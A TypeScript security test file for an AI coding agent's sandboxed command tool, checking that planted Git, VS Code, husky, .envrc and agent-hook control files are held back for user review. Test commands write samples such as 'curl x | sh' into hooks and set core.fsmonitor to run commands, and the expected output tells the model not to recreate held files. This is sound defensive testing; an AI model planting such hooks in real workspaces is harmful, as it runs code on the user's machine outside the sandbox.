// Issue 21, findings 2 and 5, under issue 36's design: a sandboxed command (the auto mode) writes to a copy-on-write
// layer, and what it leaves that other software would run (a .git, .vscode, .husky, .github/hooks, *.code-workspace,
// .envrc, at any depth, node_modules included, a link named .git) is held back for the user, never landed.
// Real bubblewrap, real overlayfs, real git, through run_command as the agent calls it; run as an unprivileged user:
//   npm run test:security -- test/security/control-files.test.ts
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { lstat, mkdir, readFile, readdir, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { silentLogger } from '../../src/base/common/ports';
import type { QuarantinedControlPaths } from '../../src/terminal/common/commandPorts';
import type { MovedControlPath } from '../../src/terminal/common/controlPaths';
import { allTools } from '../../src/tools/common/registry';
import { type ToolContext, type ToolOutcome } from '../../src/tools/common/tool';
import { defaultProtectedFiles } from '../../src/settings/common/valueSets';
import { NodeCommandRunner } from '../../src/terminal/node/nodeCommandRunner';
import { NodeFileChanges } from '../../src/tools/node/nodeFileChanges';
import { NodeWorkspaceFiles } from '../../src/tools/node/nodeWorkspaceFiles';
import { makeFixture, never, sandboxHere, type Fixture } from './harness';

const runCommand = allTools.find((tool) => tool.name === 'run_command')!;
const REPOSITORY = 'a Git repository or git directory (Git would open it and run its config)';
const EDITOR = 'settings, tasks or hooks that VS Code or another agent runs';

/** Git as the user's VS Code runs it: outside the sandbox, in `cwd`, with no user or system config. */
function hostGit(cwd: string, ...args: string[]): { status: number | null; stdout: string } {
  const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
  const result = spawnSync('git', args, { cwd, env, encoding: 'utf8', timeout: 20_000 });
  return { status: result.status, stdout: result.stdout.trim() };
}

describe('control files a sandboxed command leaves are held back (real bubblewrap, real overlayfs, real git)', async () => {
  if (!(await sandboxHere())) return;

  let fixture: Fixture;
  let root: string;
  let outside: string;
  let ctx: ToolContext;
  const originals: Record<string, string> = {
    '.vscode/settings.json': '{ "editor.tabSize": 2 }\n',
    '.husky/pre-commit': 'npm test\n',
    'proj.code-workspace': '{ "folders": [{ "path": "." }] }\n',
    '.github/hooks/hooks.json': '{ "hooks": {} }\n',
    'node_modules/dep/index.js': 'module.exports = 1;\n',
    'node_modules/dep/.git/HEAD': 'ref: refs/heads/main\n',
    'node_modules/dep/.git/config': '[core]\n\trepositoryformatversion = 0\n',
    'sub/.git': 'gitdir: ../.git/modules/sub\n',
    'src/app.ts': 'export {};\n',
  };

  before(async () => {
    fixture = await makeFixture();
    root = fixture.root;
    outside = join(fixture.base, 'outside');
    assert.equal(hostGit(root, 'init', '-q').status, 0);
    for (const [path, content] of Object.entries(originals)) {
      await mkdir(join(root, path, '..'), { recursive: true });
      await writeFile(join(root, path), content);
    }
    await mkdir(join(outside, 'repo/.git'), { recursive: true });
    await writeFile(join(outside, 'repo/.git/config'), '[core]\n');
    const { session } = fixture;
    ctx = {
      files: new NodeWorkspaceFiles(root),
      changes: new NodeFileChanges(root),
      commands: new NodeCommandRunner(root, {
        shell: '/bin/bash',
        sandbox: { launch: (command, cwd, s) => session.launch({ root, cwd, command, protectedFiles: defaultProtectedFiles, network: false }, s) },
      }),
      protectedFiles: defaultProtectedFiles,
      logger: silentLogger,
      // The session's change review, as the extension composes it: the sandbox's launch takes the layer it arms.
      controlGuard: fixture.guard,
    };
  });
  after(() => fixture.remove());

  /** run_command as the model calls it; `changes` is what the user's notification got for it, if anything was held. */
  const run = async (command: string, timeout = 60): Promise<{ outcome: ToolOutcome; changes?: QuarantinedControlPaths; seconds: number }> => {
    const before = fixture.held.length;
    const started = Date.now();
    const outcome = await (await runCommand.prepare({ command, timeout }, ctx, never)).execute(never);
    const seconds = (Date.now() - started) / 1000;
    assert.ok(fixture.held.length <= before + 1, 'one notification a command');
    return { outcome, seconds, ...(fixture.held.length > before ? { changes: fixture.held.at(-1) } : {}) };
  };
  const held = (changes: QuarantinedControlPaths | undefined): Pick<MovedControlPath, 'path' | 'kind' | 'kept' | 'reason'>[] =>
    (changes?.rollback.moved ?? []).map(({ path, kind, kept, reason }) => ({ path, kind, kept, reason }));

  // The command, and the same repository made whole elsewhere first and renamed into place in one step.
  const repositories: [string, (marker: string) => string][] = [
    ['git init x, then core.fsmonitor', (marker) => `git init -q x && git -C x config core.fsmonitor 'touch ${marker}; false'`],
    [
      'a whole repository with core.fsmonitor renamed to x/.git',
      (marker) =>
        `git init -q --bare staged && git --git-dir=staged config core.bare false && git --git-dir=staged config core.fsmonitor 'touch ${marker}; false' && mv staged x/.git`,
    ],
  ];
  for (const [index, [what, command]] of repositories.entries()) {
    test(`${what}: x/.git is held, never in the workspace; git outside finds no repository there, nothing runs`, async () => {
      const marker = join(fixture.base, `fsmonitor-ran-${index}`);
      await mkdir(join(root, 'x'), { recursive: true });
      const { outcome, changes } = await run(command(marker));
      assert.equal(outcome.exitCode, 0, outcome.output);
      assert.equal(outcome.ok, false, 'a command whose changes were held is not a success');
      assert.match(outcome.output, /\nHeld back: the command ran on a copy of the workspace; its ordinary changes were applied, but these were not/);
      assert.match(outcome.output, /\n- x\/\.git \(a Git repository or git directory \(Git would open it and run its config\)\)\n/);
      assert.match(outcome.output, /Do not create them again in another way/);
      assert.deepEqual(held(changes), [{ path: 'x/.git', kind: 'directory', kept: true, reason: REPOSITORY }]);
      assert.equal(existsSync(join(root, 'x/.git')), false);
      assert.equal(existsSync(join(root, 'staged')), false);
      // What VS Code's git extension does with a new folder: finds its repository and asks its status.
      const topLevel = hostGit(join(root, 'x'), 'rev-parse', '--show-toplevel');
      assert.equal(topLevel.stdout, root, 'x is no repository of its own');
      hostGit(join(root, 'x'), 'status');
      assert.equal(existsSync(marker), false, 'the planted fsmonitor command never ran');
      await changes!.discard(never);
    });
  }

  const planted: [string, string, Pick<MovedControlPath, 'path' | 'kind' | 'reason'>][] = [
    [
      '.vscode/tasks.json where there was no .vscode (runOn: folderOpen)',
      'mkdir -p web/.vscode && echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > web/.vscode/tasks.json',
      { path: 'web/.vscode', kind: 'directory', reason: EDITOR },
    ],
    [
      '.husky/pre-commit in a new folder',
      'mkdir -p pkg/.husky && echo "curl x | sh" > pkg/.husky/pre-commit',
      { path: 'pkg/.husky', kind: 'directory', reason: EDITOR },
    ],
    ['a *.code-workspace file', 'echo "{}" > evil.code-workspace', { path: 'evil.code-workspace', kind: 'file', reason: EDITOR }],
    ['an .envrc', 'mkdir -p lib && echo "curl x | sh" > lib/.envrc', { path: 'lib/.envrc', kind: 'file', reason: EDITOR }],
    [
      'a .git file (gitlink) at depth',
      'mkdir -p a/b/c && echo "gitdir: /tmp/elsewhere" > a/b/c/.git',
      { path: 'a/b/c/.git', kind: 'file', reason: REPOSITORY },
    ],
    [
      'hooks in a new .git/hooks',
      'mkdir -p h/.git/hooks && printf "#!/bin/sh\\ntouch /tmp/x\\n" > h/.git/hooks/post-checkout',
      { path: 'h/.git', kind: 'directory', reason: REPOSITORY },
    ],
    [
      'agent hooks in .github/hooks',
      'mkdir -p tools/.github/hooks && echo "{}" > tools/.github/hooks/run.json',
      { path: 'tools/.github/hooks', kind: 'directory', reason: EDITOR },
    ],
    [
      'a .git folder under a deep folder',
      'mkdir -p d1/d2/d3/d4/d5/d6/d7/d8/d9/d10 && git init -q d1/d2/d3/d4/d5/d6/d7/d8/d9/d10',
      { path: 'd1/d2/d3/d4/d5/d6/d7/d8/d9/d10/.git', kind: 'directory', reason: REPOSITORY },
    ],
    [
      'a .git in node_modules (VS Code opens the repository of any file shown)',
      'git init -q node_modules/other',
      { path: 'node_modules/other/.git', kind: 'directory', reason: REPOSITORY },
    ],
  ];
  for (const [what, command, expected] of planted) {
    test(`held: ${what}`, async () => {
      const { outcome, changes } = await run(command);
      assert.equal(outcome.exitCode, 0, outcome.output);
      assert.equal(outcome.ok, false);
      assert.ok(outcome.output.includes(`\n- ${expected.path} (${expected.reason})\n`), outcome.output);
      assert.deepEqual(held(changes), [{ ...expected, kept: true }]);
      const left = controlPathsIn(root);
      assert.deepEqual(left, [...expectedControlPaths].sort(), `left in the workspace: ${left.join(', ')}`);
      await changes!.discard(never);
      assert.deepEqual(controlPathsIn(root), [...expectedControlPaths].sort(), 'a discard lands nothing');
    });
  }

  test('a symbolic link named .git pointing out of the workspace is held; an Apply makes the link and writes nothing where it leads', async () => {
    const target = join(outside, 'repo/.git');
    const { outcome, changes } = await run(`mkdir -p linked && ln -s ${target} linked/.git`);
    assert.match(outcome.output, /\n- linked\/\.git \(a Git repository or git directory/);
    assert.deepEqual(held(changes), [{ path: 'linked/.git', kind: 'symlink', kept: true, reason: REPOSITORY }]);
    await assert.rejects(lstat(join(root, 'linked/.git')), { code: 'ENOENT' });
    assert.equal(hostGit(join(root, 'linked'), 'rev-parse', '--show-toplevel').stdout, root);
    await changes!.restore('linked/.git', never);
    assert.equal(await readlink(join(root, 'linked/.git')), target, 'applied as the link it was');
    assert.deepEqual(await readdir(target), ['config']);
    assert.equal(await readFile(join(target, 'config'), 'utf8'), '[core]\n');
    await rm(join(root, 'linked'), { recursive: true });
  });

  test('changes to existing control files are held, never landed: they stay byte-equal', async () => {
    // Each ran in the sandbox (a sandbox that failed to start would prove nothing) and its change was held.
    const attempts: [string, string[]][] = [
      ['git config core.fsmonitor "touch /tmp/pwned"', ['.git']],
      ['echo "x" >> .vscode/settings.json', ['.vscode']],
      ['echo "curl x | sh" >> .husky/pre-commit', ['.husky']],
      ['echo "{}" > proj.code-workspace', ['proj.code-workspace']],
      ['echo "{}" > .github/hooks/hooks.json', ['.github/hooks']],
      ['git -C node_modules/dep config core.fsmonitor "touch /tmp/pwned"', []],
      ['echo "gitdir: /tmp" > sub/.git', ['sub/.git']],
      ['rm -rf .vscode .husky && mv proj.code-workspace p2', ['.husky', '.vscode', 'proj.code-workspace']],
    ];
    for (const [command, paths] of attempts) {
      const { outcome, changes } = await run(command);
      assert.match(outcome.output, /Ran in the sandbox/, command);
      assert.equal(outcome.exitCode, 0, `${command}\n${outcome.output}`);
      const heldPaths = (changes?.rollback.moved ?? []).map((entry) => entry.path).sort();
      // node_modules/dep/.git is no repository by Git's rules (no objects, no refs): git writes the workspace's own config.
      assert.deepEqual(heldPaths, paths.length > 0 ? paths : ['.git'], command);
      await changes?.discard(never);
    }
    assert.doesNotMatch(await readFile(join(root, '.git/config'), 'utf8'), /fsmonitor/);
    for (const [path, content] of Object.entries(originals)) assert.equal(await readFile(join(root, path), 'utf8'), content, path);
    // The renamed copy is an ordinary file by its name: it landed (and only it).
    assert.equal(await readFile(join(root, 'p2'), 'utf8'), originals['proj.code-workspace']);
    await rm(join(root, 'p2'));
  });

  // The command itself takes well under a second; the review (20,001 entries) most of the time: measured 43-47 s on
  // 2 busy cores (load 5), of which reading ~5-7 s, Git's facts ~6 s, the verdict ~2 s (it grows with the square of
  // what is held), landing ~5 s and removing the empty folders of the layer ~15 s. The bound is for a hang.
  test('10,000 planted names: all held, none is left, in bounded time', async () => {
    const { outcome, changes, seconds } = await run('mkdir -p many && cd many && seq 10000 | sed "s|$|/.vscode|" | xargs mkdir -p && echo "made"', 120);
    assert.match(outcome.output, /made/);
    assert.ok(seconds < 120, `took ${seconds} s`);
    assert.match(outcome.output, /\n- and 9980 more\n/);
    const moved = changes?.rollback.moved ?? [];
    assert.equal(moved.length, 10_000);
    assert.equal(new Set(moved.map((entry) => entry.path)).size, 10_000);
    assert.ok(moved.every((entry) => entry.kept && entry.reason === EDITOR && /^many\/\d+\/\.vscode$/.test(entry.path)));
    assert.deepEqual(controlPathsIn(root), [...expectedControlPaths].sort());
    await changes!.discard(never);
    await rm(join(root, 'many'), { recursive: true });
  });

  test('the user can apply exactly a path that was held, only once; the next command’s change to it is held again', async () => {
    // Made whole beside, then renamed into place.
    const { changes } = await run('mkdir -p made allowed && echo \'{"a":1}\' > made/settings.json && mv made allowed/.vscode');
    assert.deepEqual(held(changes), [{ path: 'allowed/.vscode', kind: 'directory', kept: true, reason: EDITOR }]);
    assert.equal(existsSync(join(root, 'made')), false);
    await changes!.restore('allowed/.vscode', never);
    assert.equal(changes!.rollback.moved[0].kept, false);
    assert.deepEqual(await readdir(join(root, 'allowed/.vscode')), ['settings.json']);
    assert.equal(await readFile(join(root, 'allowed/.vscode/settings.json'), 'utf8'), '{"a":1}\n');
    await assert.rejects(changes!.restore('allowed/.vscode', never), /not held/);
    // Now the user's: a sandboxed command's change to it is held, not landed.
    const next = await run('echo x >> allowed/.vscode/settings.json');
    assert.deepEqual(held(next.changes), [{ path: 'allowed/.vscode', kind: 'directory', kept: true, reason: EDITOR }]);
    assert.equal(await readFile(join(root, 'allowed/.vscode/settings.json'), 'utf8'), '{"a":1}\n');
    await next.changes!.discard(never);
    await rm(join(root, 'allowed'), { recursive: true });
  });

  test('Discard removes what is held: nothing of it lands, and Apply is refused after', async () => {
    const { changes } = await run('mkdir -p gone && echo "curl x | sh" > gone/.envrc && echo kept > gone/readme');
    assert.deepEqual(held(changes), [{ path: 'gone/.envrc', kind: 'file', kept: true, reason: EDITOR }]);
    await changes!.discard(never);
    assert.equal(changes!.rollback.moved[0].kept, false);
    await assert.rejects(changes!.restore('gone/.envrc', never), /not held/);
    assert.deepEqual(await readdir(join(root, 'gone')), ['readme']);
    await rm(join(root, 'gone'), { recursive: true });
  });

  test('an Apply does not go through a folder swapped for a link since the command: nothing is written where it leads', async () => {
    const { changes } = await run('mkdir -p swapped && echo "{}" > swapped/tasks.json && mkdir -p swapped/.vscode && echo "{}" > swapped/.vscode/tasks.json');
    assert.deepEqual(held(changes), [{ path: 'swapped/.vscode', kind: 'directory', kept: true, reason: EDITOR }]);
    await rm(join(root, 'swapped'), { recursive: true });
    await symlink(outside, join(root, 'swapped'));
    await assert.rejects(changes!.restore('swapped/.vscode', never), /its folder swapped is gone or is a link now/);
    assert.equal(existsSync(join(outside, '.vscode')), false);
    await rm(join(root, 'swapped'));
  });

  // The old design refused a restore over something the user had made at that path since; Apply now replaces it.
  test('an Apply does not overwrite what the user wrote at that path since the command', async () => {
    const { changes } = await run('mkdir -p again && echo "x" > again/.envrc');
    assert.deepEqual(held(changes), [{ path: 'again/.envrc', kind: 'file', kept: true, reason: EDITOR }]);
    await writeFile(join(root, 'again/.envrc'), "the user's own\n");
    try {
      await assert.rejects(changes!.restore('again/.envrc', never));
      assert.equal(await readFile(join(root, 'again/.envrc'), 'utf8'), "the user's own\n");
    } finally {
      await changes!.discard(never);
      await rm(join(root, 'again'), { recursive: true });
    }
  });
});

/** The control paths the fixture starts with. */
const expectedControlPaths = new Set(['.git', '.vscode', '.husky', 'proj.code-workspace', '.github/hooks', 'node_modules/dep/.git', 'sub/.git']);

/** Every control path in the workspace, found with the host's `find` (not the code under test). */
function controlPathsIn(root: string): string[] {
  const names = ['.git', '.vscode', '.husky', '.envrc', '*.code-workspace'].flatMap((name, index) => [...(index ? ['-o'] : []), '-iname', name]);
  const result = spawnSync('find', ['.', '(', ...names, '-o', '-path', '*/.github/hooks', ')', '-prune', '-print'], { cwd: root, encoding: 'utf8' });
  return result.stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replace(/^\.\//, ''))
    .sort();
}
